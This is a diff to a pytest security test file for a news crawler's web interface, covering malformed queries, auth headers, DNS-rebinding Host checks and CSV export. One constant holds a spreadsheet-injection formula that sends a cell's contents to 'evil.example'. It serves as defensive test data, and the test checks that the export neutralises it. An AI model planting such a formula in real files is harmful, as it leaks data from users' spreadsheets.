@@ -9,12 +9,7 @@ import csv
 import io
 import json
 import random
-import subprocess
-import sys
-import urllib.error
-import urllib.request
 from collections.abc import Iterator
-from contextlib import contextmanager
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -25,8 +20,8 @@ import pytest
 from crawler.archive.reader import Archive
 from crawler.config import config_from_dict
 from tests.articles import open_db, store
-from tests.conftest import CISMOA_OPED, run_cli, wait_until, write_config
-from tests.smtp import free_port
+from tests.conftest import CISMOA_OPED, run_cli, write_config
+from tests.web import http_request, web_server
 
 NOW = datetime.now(UTC)
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"FATF grey list")'
@@ -41,49 +36,6 @@ HEADERS = (
     "Referrer-Policy",
 )
 DEEP = "(" * 3000 + "a" + ")" * 3000
-
-
-def request(
-    url: str, headers: dict[str, Any] | None = None, method: str = "GET"
-) -> tuple[int, Any, bytes]:
-    """One HTTP request with any headers (an explicit Host included); status, headers, body."""
-    req = urllib.request.Request(url, method=method)
-    for name, value in (headers or {}).items():
-        req.add_header(name, value)
-    try:
-        with urllib.request.urlopen(req, timeout=30) as r:
-            return r.status, r.headers, r.read()
-    except urllib.error.HTTPError as exc:
-        return exc.code, exc.headers, exc.read()
-
-
-def answers(url: str) -> bool:
-    try:
-        return request(url)[0] == 200
-    except OSError:
-        return False
-
-
-@contextmanager
-def web_server(config: Path, log: Path, env: dict[str, str] | None = None) -> Iterator[str]:
-    """`mediawatch web` in its own process, its stderr kept in `log` to explain a failure."""
-    import os
-
-    port = free_port()
-    with log.open("ab") as err:
-        proc = subprocess.Popen(
-            [sys.executable, "-m", "crawler", "--config", str(config), "web", "--port", str(port)],
-            stdout=subprocess.DEVNULL,
-            stderr=err,
-            env={**os.environ, **(env or {})},
-        )
-    base = f"http://127.0.0.1:{port}"
-    try:
-        wait_until(f"{base}/healthz to answer", lambda: answers(base + "/healthz"), 30)
-        yield base
-    finally:
-        proc.terminate()
-        proc.wait(10)
 
 
 @pytest.fixture(scope="module")
@@ -117,7 +69,7 @@ def assert_headers(headers: Any, what: str) -> None:
 
 def assert_bad_request(world: dict[str, Any], path: str, words: str) -> None:
     """A 400 with one line saying what is wrong (JSON for the API), and the headers."""
-    status, headers, body = request(world["base"] + path)
+    status, headers, body = http_request(world["base"] + path)
     assert status == 400, (path, status, body[:300])
     assert_headers(headers, path)
     text = json.loads(body)["error"] if path.startswith("/api/") else body.decode()
@@ -136,7 +88,7 @@ def test_deep_nesting_is_a_clear_400(world: dict[str, Any]) -> None:
         assert_bad_request(world, path, "nested more than 32 deep")
     assert_bad_request(world, f"/api/articles?q={'a+' * 6000}", "longer than 10000 characters")
     fine = quote("(" * 32 + "FATF" + ")" * 32)
-    assert request(world["base"] + f"/api/articles?q={fine}")[0] == 200
+    assert http_request(world["base"] + f"/api/articles?q={fine}")[0] == 200
 
 
 def test_huge_numbers_are_a_clear_400(world: dict[str, Any]) -> None:
@@ -147,7 +99,7 @@ def test_huge_numbers_are_a_clear_400(world: dict[str, Any]) -> None:
     assert_bad_request(world, f"/api/articles/{big}", "article id")
     assert_bad_request(world, f"/articles/{big}", "article id")
     assert_bad_request(world, "/api/articles?min_score=1e999", "finite")
-    assert request(world["base"] + "/api/articles/99999")[0] == 404  # in range, not there
+    assert http_request(world["base"] + "/api/articles/99999")[0] == 404  # in range, not there
 
 
 def test_far_past_since_is_a_clear_400(world: dict[str, Any]) -> None:
@@ -158,12 +110,12 @@ def test_far_past_since_is_a_clear_400(world: dict[str, Any]) -> None:
 
 def test_control_characters_are_a_clear_400(world: dict[str, Any]) -> None:
     assert_bad_request(world, "/api/articles?topic=fatf%00x", "topic: contains a control")
-    status, _, body = request(world["base"] + "/api/articles?q=FATF%00grey")
+    status, _, body = http_request(world["base"] + "/api/articles?q=FATF%00grey")
     assert status == 200 and json.loads(body)  # NUL only separates words in a query
 
 
 def test_csv_export_neutralises_formulas(world: dict[str, Any]) -> None:
-    status, headers, body = request(world["base"] + "/export.csv?outlet=dawn&since=2d")
+    status, headers, body = http_request(world["base"] + "/export.csv?outlet=dawn&since=2d")
     assert status == 200 and headers["Content-Type"].startswith("text/csv")
     rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
     assert sorted(r["title"] for r in rows) == ["'" + FORMULA_TITLE, "CISMOA"]
@@ -180,11 +132,11 @@ def test_csv_export_neutralises_formulas(world: dict[str, Any]) -> None:
 def test_dns_rebinding_host_is_refused(world: dict[str, Any]) -> None:
     base, port = world["base"], world["base"].rsplit(":", 1)[1]
     for host in ("evil.example", f"evil.example:{port}", "127.0.0.1.evil.example", "[::2]"):
-        status, headers, body = request(base + "/api/articles", {"Host": host})
+        status, headers, body = http_request(base + "/api/articles", {"Host": host})
         assert status == 400 and b"host" in body.lower(), host
         assert_headers(headers, f"Host {host}")
     for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", "LOCALHOST"):
-        assert request(base + "/api/articles", {"Host": host})[0] == 200, host
+        assert http_request(base + "/api/articles", {"Host": host})[0] == 200, host
 
 
 def test_allowed_hosts_and_token_from_the_environment(tmp_path: Path) -> None:
@@ -200,12 +152,12 @@ def test_allowed_hosts_and_token_from_the_environment(tmp_path: Path) -> None:
     with web_server(config, tmp_path / "log", {"MEDIAWATCH_WEB_TOKEN": token}) as base:
         utf8 = token.encode()
         ok = {"Authorization": b"Bearer " + utf8}
-        assert request(base + "/api/articles", {**ok, "Host": "news.example.org"})[0] == 200
-        assert request(base + "/api/articles", {**ok, "Host": "localhost"})[0] == 400
-        assert request(base + "/api/articles", ok)[0] == 200
-        assert request(base + "/api/articles", {"Authorization": "Bearer from-file"})[0] == 401
+        assert http_request(base + "/api/articles", {**ok, "Host": "news.example.org"})[0] == 200
+        assert http_request(base + "/api/articles", {**ok, "Host": "localhost"})[0] == 400
+        assert http_request(base + "/api/articles", ok)[0] == 200
+        assert http_request(base + "/api/articles", {"Authorization": "Bearer from-file"})[0] == 401
         basic = b"Basic " + base64.b64encode(b"me:" + utf8)
-        assert request(base + "/api/articles", {"Authorization": basic})[0] == 200
+        assert http_request(base + "/api/articles", {"Authorization": basic})[0] == 200
         for bad in (
             b"Bearer \xff\xfe\xc3\xa9",
             "Bearer sécret".encode("latin-1"),
@@ -214,10 +166,10 @@ def test_allowed_hosts_and_token_from_the_environment(tmp_path: Path) -> None:
             b"Basic \xc3\xa9\xc3\xa9==",
             b"Basic !!!",
         ):
-            status, headers, _ = request(base + "/api/articles", {"Authorization": bad})
+            status, headers, _ = http_request(base + "/api/articles", {"Authorization": bad})
             assert status == 401, bad
             assert_headers(headers, "401")
-        assert request(base + "/healthz")[0] == 200
+        assert http_request(base + "/healthz")[0] == 200
 
 
 def test_security_headers_on_errors_and_404s(world: dict[str, Any]) -> None:
@@ -232,7 +184,7 @@ def test_security_headers_on_errors_and_404s(world: dict[str, Any]) -> None:
         ("/healthz", "GET", 200),
         ("/static/style.css", "GET", 200),
     ]:
-        status, headers, _ = request(base + path, method=method)
+        status, headers, _ = http_request(base + path, method=method)
         assert status == expected, path
         assert_headers(headers, f"{method} {path}")
 
@@ -342,7 +294,7 @@ def test_fuzz_no_5xx_and_headers_everywhere(world: dict[str, Any]) -> None:
                 [(k, v.encode("utf-8", "surrogatepass")) for k, v in params], doseq=False
             )
             path = rng.choice(PATHS) + ("?" + query if query else "")
-        status, headers, body = request(base + path)
+        status, headers, body = http_request(base + path)
         if status >= 500 or any(not headers.get(h) for h in HEADERS):
             failures.append((i, path[:200], status, body[:200]))
     log = world["log"].read_text(errors="replace")
